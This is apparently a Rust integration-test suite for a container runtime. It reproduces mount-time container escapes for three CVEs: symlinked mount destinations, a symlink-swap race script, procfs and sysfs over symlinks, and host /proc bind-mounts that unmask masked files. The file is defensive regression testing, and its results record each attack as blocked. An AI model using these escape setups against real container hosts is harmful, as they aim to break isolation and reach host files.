//! Mount-time escapes: symlinked mount destinations (CVE-2021-30465), procfs/sysfs over a symlink
//! (CVE-2019-16884, CVE-2019-19921), and unmasking masked paths through config mounts.
//!
//! Escapes are observed from inside the container, in its own mount namespace (where an escaped
//! mount would land): a host directory T holding a marker file is also bind-mounted into the
//! container at /vol, *after* the attacked mount. Had the attacked mount landed on the host's T,
//! /vol would show that mount instead of the marker.
//!
//! Results (recorded from runs on this host):
//! * `attack_30465_symlink_destination` — runc 1.1.5: blocked, brisk: blocked (both mount inside
//!   the rootfs, at the symlink target resolved under the root)
//! * `attack_30465_symlink_swap_race` — runc 1.1.5: blocked, brisk: blocked
//! * `attack_19921_proc_over_symlink` — runc 1.1.5: blocked (refused), brisk: blocked (refused)
//! * `attack_19921_sysfs_over_symlink` — runc 1.1.5: blocked (refused), brisk: blocked (refused)
//! * `attack_16884_unmask_by_second_proc_mount` — runc 1.1.5: blocked (still masked),
//!   brisk: blocked (still masked)
//! * `attack_16884_unmask_by_binding_host_proc_file` — runc 1.1.5: blocked (refused),
//!   brisk: blocked (refused)
//! * `attack_16884_unmask_by_rbinding_host_proc` — runc 1.1.5: blocked (still masked),
//!   brisk: blocked (still masked)

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use brisk_integration::attack;
use brisk_integration::bundle::Bundle;
use brisk_integration::runtime_cli::{CmdResult, RuntimeUnderTest};
use brisk_integration::runtime_tests;

runtime_tests!(
    attack_30465_symlink_destination,
    attack_30465_symlink_swap_race,
    attack_19921_proc_over_symlink,
    attack_19921_sysfs_over_symlink,
    attack_16884_unmask_by_second_proc_mount,
    attack_16884_unmask_by_binding_host_proc_file,
    attack_16884_unmask_by_rbinding_host_proc,
);

const MARKER: &str = "host-marker";

/// A host directory outside every bundle, holding [`MARKER`].
fn host_target() -> tempfile::TempDir {
    let d = tempfile::Builder::new().prefix("brisk-hosttarget-").tempdir().expect("host target dir");
    fs::write(d.path().join(MARKER), "the host's file\n").expect("marker");
    d
}

/// Mount points (field 5) of /proc/self/mountinfo text.
fn mount_points(mountinfo: &str) -> Vec<String> {
    mountinfo.lines().filter_map(|l| l.split_whitespace().nth(4).map(str::to_owned)).collect()
}

/// The host's view is untouched: T holds only the marker and nothing is mounted on it.
fn assert_host_untouched(t: &Path) {
    let names: Vec<String> = fs::read_dir(t).expect("read T").flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
    assert_eq!(names, vec![MARKER.to_string()], "the host directory {} changed", t.display());
    let host_mounts = fs::read_to_string("/proc/self/mountinfo").expect("host mountinfo");
    assert!(!mount_points(&host_mounts).iter().any(|m| Path::new(m) == t), "something is mounted on the host's {}", t.display());
}

// runc 1.1.5: blocked, brisk: blocked.
fn attack_30465_symlink_destination(rt: &RuntimeUnderTest) {
    let t_abs = host_target();
    let t_rel = host_target();
    let b = Bundle::new();
    // An absolute symlink and one that climbs with "..": both must resolve under the rootfs.
    symlink(t_abs.path(), b.rootfs().join("evil-abs")).expect("symlink");
    let rel = format!("../../../../../../../../..{}", t_rel.path().display());
    symlink(&rel, b.rootfs().join("evil-rel")).expect("symlink");
    let b = b
        .mount("/evil-abs", "tmpfs", "tmpfs", &["size=1m"])
        .mount("/evil-rel", "tmpfs", "tmpfs", &["size=1m"])
        .bind(t_abs.path(), "/vol-abs", &["ro"])
        .bind(t_rel.path(), "/vol-rel", &["ro"])
        .sh("echo abs: $(ls /vol-abs); echo rel: $(ls /vol-rel); echo ---; cat /proc/self/mountinfo");
    let id = rt.new_id("cve30465");
    let r = rt.run(&id, &b);
    eprintln!("RESULT {:?}: {} {}", rt.kind(), r.status, r.stderr);
    let r = r.ok();
    let l = r.lines();
    assert_eq!(l[0], format!("abs: {MARKER}"), "CVE-2021-30465: the tmpfs for /evil-abs landed on the host's {}:\n{}", t_abs.path().display(), r.stdout);
    assert_eq!(l[1], format!("rel: {MARKER}"), "CVE-2021-30465: the tmpfs for /evil-rel landed on the host's {}:\n{}", t_rel.path().display(), r.stdout);
    // Inside the container the mounts sit where the symlinks point when resolved in the root.
    let inside = mount_points(r.stdout.split("---").nth(1).unwrap_or_default());
    for t in [t_abs.path(), t_rel.path()] {
        let want = t.display().to_string();
        assert!(inside.contains(&want), "no mount at {want} inside the container:\n{inside:?}");
        assert!(b.rootfs().join(t.strip_prefix("/").expect("absolute")).is_dir(), "the destination was not created inside the rootfs");
        assert_host_untouched(t);
    }
    rt.delete_force(&id).ok();
}

/// Swapper for the race: in a container that has the victim's rootfs at /shared, flip
/// /shared/evil between a directory and a symlink to the host target, a bounded number of times.
const SWAPPER: &str = r#"t=$1; i=0
echo started
while [ $i -lt 200000 ] && [ ! -e /ctl/stop ]; do
  rm -rf /shared/evil; mkdir /shared/evil; rm -rf /shared/evil; ln -s "$t" /shared/evil
  i=$((i+1))
done
echo "swaps=$i" > /ctl/swapped"#;

// runc 1.1.5: blocked, brisk: blocked.
fn attack_30465_symlink_swap_race(rt: &RuntimeUnderTest) {
    let t = host_target();
    let victim = Bundle::new()
        .mount("/evil", "tmpfs", "tmpfs", &["size=1m"])
        .sh("echo vol: $(ls /vol)");
    let victim = victim.bind(t.path(), "/vol", &["ro"]);
    let swapper = Bundle::new();
    let ctl = attack::ctl_dir(&swapper, "ctl");
    fs::write(swapper.rootfs().join("swap.sh"), SWAPPER).expect("swap.sh");
    let swapper = swapper.bind(&ctl, "/ctl", &[]).bind(&victim.rootfs(), "/shared", &[]).args(&["sh", "/swap.sh", &t.path().display().to_string()]);
    let sid = rt.new_id("cve30465-swapper");
    rt.run_detached(&sid, &swapper).ok();
    rt.wait_output(&sid, &swapper, "started");

    let (mut started, mut refused) = (0, 0);
    for _ in 0..20 {
        let vid = rt.new_id("cve30465-victim");
        let r: CmdResult = rt.run(&vid, &victim);
        if r.status.success() {
            started += 1;
            assert_eq!(r.stdout.trim(), format!("vol: {MARKER}"), "CVE-2021-30465: a swapped-in symlink made /evil mount on the host's {}", t.path().display());
        } else {
            refused += 1;
            assert!(!r.stdout.contains("vol:") || r.stdout.contains(MARKER), "CVE-2021-30465: escape before failing:\n{}", r.stdout);
        }
        let _ = rt.delete_force(&vid);
    }
    fs::write(ctl.join("stop"), "").expect("stop file");
    attack::wait_for("the swapper to stop", || ctl.join("swapped").exists());
    let swaps = fs::read_to_string(ctl.join("swapped")).unwrap_or_default();
    eprintln!("RESULT {:?}: {started} victims started, {refused} refused, {}", rt.kind(), swaps.trim());
    assert_host_untouched(t.path());
    rt.delete_force(&sid).ok();
}

/// Replace the rootfs's `dir` with a symlink to `/fake<dir>` (a real directory in the rootfs).
fn symlinked(b: &Bundle, dir: &str) -> PathBuf {
    let fake = b.rootfs().join(format!("fake{dir}"));
    fs::create_dir(&fake).expect("fake dir");
    fs::remove_dir(b.rootfs().join(dir)).expect("remove dir");
    symlink(format!("/fake{dir}"), b.rootfs().join(dir)).expect("symlink");
    fake
}

fn assert_refused(rt: &RuntimeUnderTest, b: &Bundle, what: &str) {
    let id = rt.new_id("cve19921");
    let r = rt.create(&id, b);
    eprintln!("RESULT {:?} {what}: {} {}", rt.kind(), r.status, r.stderr.trim());
    let r = r.failed();
    assert!(!r.stderr.trim().is_empty(), "{what}: refused without saying why");
    rt.assert_nothing_left(&id);
}

// runc 1.1.5: blocked (refused), brisk: blocked (refused).
fn attack_19921_proc_over_symlink(rt: &RuntimeUnderTest) {
    let b = Bundle::new();
    let fake = symlinked(&b, "proc");
    assert_refused(rt, &b, "procfs over a symlink");
    assert!(fs::read_dir(&fake).expect("fake dir").next().is_none(), "something was put in the symlink's target");
}

// runc 1.1.5: blocked (refused), brisk: blocked (refused).
fn attack_19921_sysfs_over_symlink(rt: &RuntimeUnderTest) {
    let b = Bundle::new();
    symlinked(&b, "sys");
    assert_refused(rt, &b, "sysfs over a symlink");
}

/// Reads each masked path and prints its size; a masked file reads empty (or not at all).
const READ_MASKED: &str = "for f in /proc/timer_list /proc/keys; do echo \"$f $(cat $f 2>/dev/null | wc -c)\"; done";

/// Run `b` (with [`READ_MASKED`]) and check the masked paths still read empty — or that the
/// runtime refused the config. Returns "refused" or "masked" for the record.
fn assert_still_masked(rt: &RuntimeUnderTest, b: Bundle) -> &'static str {
    assert!(fs::read_to_string("/proc/timer_list").map(|s| !s.is_empty()).unwrap_or(false), "precondition: the host's /proc/timer_list has content");
    let b = b.sh(READ_MASKED);
    let id = rt.new_id("cve16884");
    let r = rt.run(&id, &b);
    eprintln!("RESULT {:?}: {} stdout {:?} stderr {:?}", rt.kind(), r.status, r.stdout, r.stderr);
    let verdict = if r.status.success() {
        for l in r.lines() {
            let (path, size) = l.rsplit_once(' ').expect("path size");
            assert_eq!(size, "0", "masked path {path} was unmasked: it reads {size} bytes");
        }
        assert_eq!(r.lines().len(), 2, "unexpected output:\n{}", r.stdout);
        "masked"
    } else {
        assert!(!r.stdout.contains("timer_list"), "the container ran although the runtime reported failure");
        "refused"
    };
    let _ = rt.delete_force(&id);
    verdict
}

// runc 1.1.5: blocked (still masked), brisk: blocked (still masked).
fn attack_16884_unmask_by_second_proc_mount(rt: &RuntimeUnderTest) {
    let v = assert_still_masked(rt, Bundle::new().mount("/proc", "proc", "proc", &[]));
    eprintln!("RESULT {:?}: {v}", rt.kind());
}

// runc 1.1.5: blocked (refused), brisk: blocked (refused).
fn attack_16884_unmask_by_binding_host_proc_file(rt: &RuntimeUnderTest) {
    let b = Bundle::new()
        .bind(Path::new("/proc/timer_list"), "/proc/timer_list", &[])
        .bind(Path::new("/proc/keys"), "/proc/keys", &[]);
    let v = assert_still_masked(rt, b);
    eprintln!("RESULT {:?}: {v}", rt.kind());
}

// runc 1.1.5: blocked (still masked), brisk: blocked (still masked).
fn attack_16884_unmask_by_rbinding_host_proc(rt: &RuntimeUnderTest) {
    let v = assert_still_masked(rt, Bundle::new().bind(Path::new("/proc"), "/proc", &[]));
    eprintln!("RESULT {:?}: {v}", rt.kind());
}
